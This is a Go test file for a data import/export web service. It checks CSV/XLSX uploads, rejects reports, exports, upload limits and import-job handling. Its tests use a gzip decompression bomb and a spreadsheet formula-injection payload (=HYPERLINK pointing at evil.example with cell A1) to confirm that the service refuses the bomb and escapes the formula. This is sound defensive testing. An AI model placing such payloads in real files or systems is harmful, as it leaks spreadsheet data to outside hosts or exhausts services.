package kexihttp

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/url"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/kexi/kexi"
	"github.com/kexi/kexi/analysis"
	"github.com/kexi/kexi/sheet"
)

// TestImportUpload imports through the API and the page: a good file lands, a file with a
// bad row fails whole unless skip_bad is set, and then the rejects report names the row.
func TestImportUpload(t *testing.T) {
	f := newFixture(t)
	good := "external_id,name,province,owner\nU1,Upload One,浙江,alice\nU2,Upload Two,浙江,bob\n"
	w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("good.csv", []byte(good), map[string]string{"kind": "customers"})})
	if w.Code != 200 || !strings.Contains(w.Body.String(), `"state":"done"`) || !strings.Contains(w.Body.String(), `"customers":2`) {
		t.Fatalf("good import: %d %s", w.Code, w.Body)
	}
	cs, n, _ := f.st.FindCustomers(context.Background(), kexi.Filter{Where: []kexi.Cond{{Field: "province", Op: kexi.Eq, Value: "浙江"}}})
	if n != 2 || len(cs) != 2 {
		t.Fatalf("imported customers: %d", n)
	}
	// Row 2 has a bad date: the file fails whole.
	bad := "external_id,customer,ordered_at,amount\nQ1,C1,2025-03-01,10\nQ2,C1,not a date,20\n"
	w = f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("bad.csv", []byte(bad), map[string]string{"kind": "orders"})})
	if w.Code != 400 || !strings.Contains(w.Body.String(), `"row":2`) || !strings.Contains(w.Body.String(), "not a date") {
		t.Fatalf("bad import: %d %s", w.Code, w.Body)
	}
	if _, n, _ := f.st.FindOrders(context.Background(), kexi.Filter{Where: []kexi.Cond{{Field: "external_id", Op: kexi.Eq, Value: "Q1"}}}); n != 0 {
		t.Errorf("a failed file half-landed: Q1 is there")
	}
	// With skip_bad through the page: Q1 lands, Q2 is in the rejects report.
	w = f.do(req{method: "POST", path: "/import", as: "admin", via: "session", header: map[string]string{"Accept": "application/json"},
		body: upload("bad.csv", []byte(bad), map[string]string{"kind": "orders", "skip_bad": "1"})})
	var job struct{ ID, URL string }
	decode(t, w, &job)
	if w.Code != 202 || job.URL != "/import/"+job.ID {
		t.Fatalf("upload: %d %s", w.Code, w.Body)
	}
	// The file picker offers .csv.gz, as the README promises.
	if form := f.do(req{method: "GET", path: "/import", as: "admin", via: "session"}).Body.String(); !strings.Contains(form, `accept=".csv,.csv.gz,`) {
		t.Errorf("the import form's file picker hides .csv.gz: %.1500s", form)
	}
	// The upload is checked first: the preview names the bad row's problem.
	if state := waitJob(t, f, job.URL, "admin"); state != "preview" {
		t.Fatalf("job state %q, want preview", state)
	}
	page := f.do(req{method: "GET", path: job.URL, as: "admin", via: "session"}).Body.String()
	if !strings.Contains(page, `id="job-preview"`) || !strings.Contains(page, `data-code="bad_date"`) {
		t.Errorf("preview page: %.2000s", page)
	}
	// Confirmed with skip_bad, as the page's form does.
	w = f.do(req{method: "POST", path: job.URL, as: "admin", via: "session", body: url.Values{"skip_bad": {"1"}, "kind": {"orders"}}.Encode()})
	if w.Code != 303 {
		t.Fatalf("confirm: %d %s", w.Code, w.Body)
	}
	if state := waitJob(t, f, job.URL, "admin"); state != "done" {
		t.Fatalf("job state %q", state)
	}
	page = f.do(req{method: "GET", path: job.URL, as: "admin", via: "session"}).Body.String()
	if !strings.Contains(page, `id="job-done"`) || !strings.Contains(page, "/rejects") {
		t.Errorf("job page: %.1000s", page)
	}
	rej := f.do(req{method: "GET", path: job.URL + "/rejects", as: "admin", via: "session"})
	if rej.Code != 200 || !strings.Contains(rej.Body.String(), "not a date") || !strings.Contains(rej.Body.String(), "Q2") {
		t.Errorf("rejects: %d %s", rej.Code, rej.Body)
	}
	if _, n, _ := f.st.FindOrders(context.Background(), kexi.Filter{Where: []kexi.Cond{{Field: "external_id", Op: kexi.Eq, Value: "Q1"}}}); n != 1 {
		t.Errorf("Q1 did not land with skip_bad")
	}
	// Another user cannot see the job.
	if w := f.do(req{method: "GET", path: job.URL, as: "ana", via: "session"}); w.Code != 404 {
		t.Errorf("another user's job: %d", w.Code)
	}
	// The audit log has the import.
	es, _ := f.st.FindAudit(context.Background(), 20)
	found := false
	for _, e := range es {
		found = found || e.Action == "import" && strings.Contains(e.Detail, "bad.csv")
	}
	if !found {
		t.Errorf("no import audit entry: %+v", es)
	}
}

// TestExports checks the CSV and XLSX downloads: an entity list within the user's scope and
// an analysis table with the customer's name beside the id.
func TestExports(t *testing.T) {
	f := newFixture(t)
	w := f.do(req{method: "GET", path: "/api/v1/orders/export?format=csv&sort=amount", as: "alice"})
	if w.Code != 200 || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/csv") {
		t.Fatalf("orders csv: %d %s", w.Code, w.Header())
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.Body.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// alice's orders: O2 (50), O1 (100, one line), O3 (200), sorted by amount.
	var ids []string
	for _, r := range recs[1:] {
		ids = append(ids, r[0])
	}
	if got := strings.Join(ids, ","); !strings.Contains(got, "O2") || !strings.Contains(got, "O1") || !strings.Contains(got, "O3") || strings.Contains(got, marker) {
		t.Errorf("alice's orders export: %v", recs)
	}
	w = f.do(req{method: "GET", path: "/data/customers/export?format=xlsx", as: "admin", via: "session"})
	if w.Code != 200 {
		t.Fatalf("xlsx: %d %s", w.Code, w.Body)
	}
	x, err := excelize.OpenReader(bytes.NewReader(w.Body.Bytes()))
	if err != nil {
		t.Fatalf("xlsx does not open: %v", err)
	}
	rows, _ := x.GetRows(x.GetSheetName(0))
	if len(rows) != 4 { // header + 3 customers
		t.Errorf("xlsx rows: %d %v", len(rows), rows)
	}
	// The pyramid's first table: tiers over the whole history (1,420): bob's C3 (1,070) is
	// the VIP (top 1 % of 3 customers rounds up to one), with 1070/1420 = 0.7535… of revenue.
	w = f.do(req{method: "GET", path: "/analyses/pyramid/export?format=csv", as: "admin", via: "session",
		header: map[string]string{"Accept-Language": "en"}})
	if body := w.Body.String(); w.Code != 200 || !strings.Contains(body, ",1,0.3333333333333333,1070,0.7535211267605634,") {
		t.Errorf("tiers csv: %d %s", w.Code, body)
	}
	// Its per-customer table has the customer's name beside the id.
	w = f.do(req{method: "GET", path: "/analyses/pyramid/export?format=csv&table=customers", as: "admin", via: "session",
		header: map[string]string{"Accept-Language": "en"}})
	if w.Code != 200 {
		t.Fatalf("analysis csv: %d %s", w.Code, w.Body)
	}
	body := w.Body.String()
	if !strings.Contains(body, "Alice One") || !strings.Contains(body, marker+" Three") {
		t.Errorf("analysis export lacks names: %s", body)
	}
	w = f.do(req{method: "GET", path: "/analyses/pyramid/export?format=xlsx&table=nope", as: "admin", via: "session"})
	if w.Code != 404 {
		t.Errorf("unknown table: %d", w.Code)
	}
	if w := f.do(req{method: "GET", path: "/data/customers/export?format=pdf", as: "admin", via: "session"}); w.Code != 400 {
		t.Errorf("pdf: %d", w.Code)
	}
	es, _ := f.st.FindAudit(context.Background(), 20)
	n := 0
	for _, e := range es {
		if e.Action == "export" {
			n++
		}
	}
	if n < 3 {
		t.Errorf("%d export audit entries, want 3", n)
	}
}

// TestWarm checks that Warm computes the default analyses before any page asks.
func TestWarm(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	v, _ := f.st.DataVersion(ctx)
	f.srv.warm(ctx, v)
	var missing []analysis.Analysis
	f.srv.cache.mu.Lock()
	for _, a := range f.srv.analyses {
		in, _ := analysisInput(a.Info(), url.Values{}, false, time.UTC, kexi.Dates{}) // what a page without options asks for
		if _, ok := f.srv.cache.entries[entryKey(v, f.srv.analysisKey(ctx, kexi.Scope{}, a.Info().Name, in))]; !ok {
			missing = append(missing, a)
		}
	}
	dash := false // the dashboard's key goes on with the versions of its figures
	for k := range f.srv.cache.entries {
		dash = dash || strings.HasPrefix(k, entryKey(v, f.srv.dashboardKey(ctx, kexi.Scope{})))
	}
	f.srv.cache.mu.Unlock()
	if !dash {
		t.Error("dashboard not warmed")
	}
	// Only analyses that refuse this little data may be missing (errors are not cached).
	d, _ := f.srv.datasetAt(ctx, v, kexi.Scope{}, kexi.AllParts)
	for _, a := range missing {
		if _, _, err := f.srv.runAnalysis(ctx, kexi.Scope{}, a, analysis.Input{Options: map[string]string{}}, d); err == nil {
			t.Errorf("%s not warmed", a.Info().Name)
		}
	}
}

// TestImportLimits: an upload over a limit is refused at once with 413 and a message naming
// the limit, and the limits come from the server's configuration.
func TestImportLimits(t *testing.T) {
	f := newFixture(t)
	var gz bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&gz, gzip.BestCompression)
	io.WriteString(zw, "external_id,name,city\nB1,")
	zw.Write(bytes.Repeat([]byte("a"), 40<<20))
	io.WriteString(zw, ",Hangzhou\n")
	zw.Close()
	w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("bomb.csv.gz", gz.Bytes(), map[string]string{"kind": "customers"})})
	var e apiError
	decode(t, w, &e)
	if w.Code != 413 || e.Code != "too_large" || !strings.Contains(e.Message, "line limit of 16 MiB") || !strings.Contains(e.Message, "--max-line") {
		t.Errorf("bomb: %d %+v", w.Code, e)
	}
	if _, n, _ := f.st.FindCustomers(context.Background(), kexi.Filter{Where: []kexi.Cond{{Field: "external_id", Op: kexi.Eq, Value: "B1"}}}); n != 0 {
		t.Errorf("the refused file landed")
	}
	var doc struct {
		Paths map[string]map[string]struct{ Responses map[string]any }
	}
	decode(t, f.do(req{method: "GET", path: "/api/v1/openapi.json", as: "admin"}), &doc)
	if _, ok := doc.Paths["/api/v1/import"]["post"].Responses["413"]; !ok {
		t.Errorf("the OpenAPI document does not list 413 for POST /api/v1/import: %+v", doc.Paths["/api/v1/import"])
	}
	f.srv.limits = sheet.Limits{Rows: 2}
	three := "external_id,name\nR1,One\nR2,Two\nR3,Three\n"
	w = f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("three.csv", []byte(three), map[string]string{"kind": "customers"})})
	if w.Code != 413 || !strings.Contains(w.Body.String(), "rows limit of 2 rows") {
		t.Errorf("rows limit: %d %s", w.Code, w.Body)
	}
}

// TestImportJobsForgotten: a finished job is kept for an hour, then forgotten when the next
// upload starts; at most maxJobs finished jobs are kept.
func TestImportJobsForgotten(t *testing.T) {
	f := newFixture(t)
	var clock atomic.Int64
	clock.Store(time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC).UnixNano())
	f.srv.now = func() time.Time { return time.Unix(0, clock.Load()) }
	importOne := func(name string) string {
		t.Helper()
		w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload(name, []byte("external_id,name\nJ1,Job One\n"), map[string]string{"kind": "customers"})})
		var j struct{ ID, State string }
		decode(t, w, &j)
		if w.Code != 200 || j.State != "done" {
			t.Fatalf("import %s: %d %s", name, w.Code, w.Body)
		}
		return j.ID
	}
	status := func(id string) int {
		return f.do(req{method: "GET", path: "/import/" + id + "?format=json", as: "admin"}).Code
	}
	first := importOne("first.csv")
	clock.Add(int64(50 * time.Minute))
	second := importOne("second.csv")
	if status(first) != 200 || status(second) != 200 {
		t.Fatalf("jobs within the hour: %d %d", status(first), status(second))
	}
	clock.Add(int64(20 * time.Minute)) // first finished 70 minutes ago, second 20
	third := importOne("third.csv")
	if status(first) != 404 || status(second) != 200 || status(third) != 200 {
		t.Errorf("after 70 minutes: first %d second %d third %d, want 404 200 200", status(first), status(second), status(third))
	}
	for i := range maxJobs + 10 {
		clock.Add(int64(time.Second))
		importOne(fmt.Sprintf("many-%d.csv", i))
	}
	f.srv.jobs.mu.Lock()
	n := len(f.srv.jobs.byID)
	f.srv.jobs.mu.Unlock()
	if n != maxJobs || status(second) != 404 {
		t.Errorf("%d jobs kept (want %d), the second's status %d", n, maxJobs, status(second))
	}
}

// TestImportJobsKeepNoRecords: ten uploads of a customers file leave the heap as it was: a
// finished job keeps its status and report, not the records it read.
func TestImportJobsKeepNoRecords(t *testing.T) {
	f := newFixture(t)
	var b strings.Builder
	b.WriteString("external_id,name,email,city,channel\n")
	for i := range 20000 {
		fmt.Fprintf(&b, "M%06d,Customer number %d,m%d@example.com,杭州,wechat\n", i, i, i)
	}
	data := []byte(b.String())
	heap := func() uint64 {
		runtime.GC()
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("warm.csv", data, map[string]string{"kind": "customers"})})
	if w.Code != 200 {
		t.Fatalf("import: %d %s", w.Code, w.Body)
	}
	before := heap()
	for i := range 10 {
		w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload(fmt.Sprintf("m%d.csv", i), data, map[string]string{"kind": "customers"})})
		if w.Code != 200 {
			t.Fatalf("import: %d %s", w.Code, w.Body)
		}
	}
	after := heap()
	runtime.KeepAlive(f) // the server and its jobs
	// One batch of these 20,000 customers takes about 14 MB: ten kept grew the heap by 138 MB.
	if grew := int64(after) - int64(before); grew > 8<<20 {
		t.Errorf("the heap grew by %.1f MB over ten imports of a %.1f MB file", float64(grew)/(1<<20), float64(len(data))/(1<<20))
	}
}

// TestImportRejectsReport: a job keeps the first maxJobRejects problems for its report and
// says how many more there were.
func TestImportRejectsReport(t *testing.T) {
	f := newFixture(t)
	var b strings.Builder
	b.WriteString("external_id,customer,ordered_at,amount\n")
	for i := range 1500 { // two problems each: a bad date, so no order date
		fmt.Fprintf(&b, "X%d,C1,not a date,%d\n", i, i)
	}
	b.WriteString("X-good,C1,2025-03-01,10\n")
	w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("bad.csv", []byte(b.String()), map[string]string{"kind": "orders", "skip_bad": "1"})})
	var j struct {
		ID          string
		Rejected    int
		Rejects     []sheet.Reject
		MoreRejects int `json:"more_rejects"`
	}
	decode(t, w, &j)
	if w.Code != 200 || j.Rejected != 1500 || len(j.Rejects) != maxJobRejects || j.MoreRejects != 2000 {
		t.Fatalf("import: %d rejected %d, %d rejects listed, %d more", w.Code, j.Rejected, len(j.Rejects), j.MoreRejects)
	}
	rej := f.do(req{method: "GET", path: "/import/" + j.ID + "/rejects", as: "admin", header: map[string]string{"Accept-Language": "en"}}).Body.String()
	cr := csv.NewReader(strings.NewReader(rej))
	cr.FieldsPerRecord = -1
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// The column names, the file's header, the problems kept and the line saying how many more.
	if len(recs) != maxJobRejects+3 || !strings.Contains(recs[2][4], "date") ||
		!strings.Contains(recs[len(recs)-1][4], "… and 2000 more problems") {
		t.Errorf("rejects download: %d records; first %v; last %v", len(recs), recs[min(2, len(recs)-1)], recs[len(recs)-1])
	}
}

// TestExportsEscapeFormulas: a customer named like a spreadsheet formula comes out with an
// apostrophe in front in the customer CSV export, an analysis CSV download and the rejects
// report; numbers are left alone.
func TestExportsEscapeFormulas(t *testing.T) {
	f := newFixture(t)
	const link = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	quoted := `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`
	custs := "external_id,name,city\nF1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",@home\n"
	orders := "external_id,customer,ordered_at,amount\nFO1,F1,2025-03-01,5000\n"
	for name, data := range map[string]string{"customers.csv": custs, "orders.csv": orders} {
		w := f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload(name, []byte(data), map[string]string{"skip_bad": "1"})})
		if w.Code != 200 {
			t.Fatalf("import %s: %d %s", name, w.Code, w.Body)
		}
	}
	cs, _, _ := f.st.FindCustomers(context.Background(), kexi.Filter{Where: []kexi.Cond{{Field: "external_id", Op: kexi.Eq, Value: "F1"}}})
	if len(cs) != 1 || cs[0].Name != link {
		t.Fatalf("imported %+v", cs)
	}
	check := func(what, body string, want ...string) {
		t.Helper()
		for _, w := range want {
			if !strings.Contains(body, w) {
				t.Errorf("%s lacks %s:\n%.2000s", what, w, body)
			}
		}
		if strings.Contains(body, ","+link[:10]) || strings.Contains(body, `,"=HYPERLINK`) || strings.Contains(body, ",@home") {
			t.Errorf("%s has a live formula:\n%.2000s", what, body)
		}
	}
	w := f.do(req{method: "GET", path: "/api/v1/customers/export?format=csv", as: "admin"})
	check("customers export", w.Body.String(), quoted, ",'@home")
	w = f.do(req{method: "GET", path: "/analyses/pyramid/export?format=csv&table=customers", as: "admin", via: "session",
		header: map[string]string{"Accept-Language": "en"}})
	check("analysis download", w.Body.String(), quoted, ",5000,")
	// A rejected row's cells are in the rejects report.
	w = f.do(req{method: "POST", path: "/api/v1/import", as: "admin", body: upload("bad.csv",
		[]byte("external_id,customer,ordered_at,amount\n=1+1,@F1,2025-03-01,x\n"), map[string]string{"kind": "orders", "skip_bad": "1"})})
	var j struct{ ID string }
	decode(t, w, &j)
	rej := f.do(req{method: "GET", path: "/import/" + j.ID + "/rejects", as: "admin", header: map[string]string{"Accept-Language": "en"}}).Body.String()
	if !strings.Contains(rej, ",'=1+1,'@F1,2025-03-01,x") {
		t.Errorf("rejects report:\n%s", rej)
	}
}

// waitJob polls an import job until it leaves the checking and importing states.
func waitJob(t *testing.T, f *fixture, url, as string) string {
	t.Helper()
	for range 3000 {
		w := f.do(req{method: "GET", path: url + "?format=json", as: as, via: "session"})
		var j struct{ State string }
		decode(t, w, &j)
		switch j.State {
		case "checking", "reading", "importing":
			time.Sleep(10 * time.Millisecond)
		default:
			return j.State
		}
	}
	t.Fatalf("job %s did not finish", url)
	return ""
}
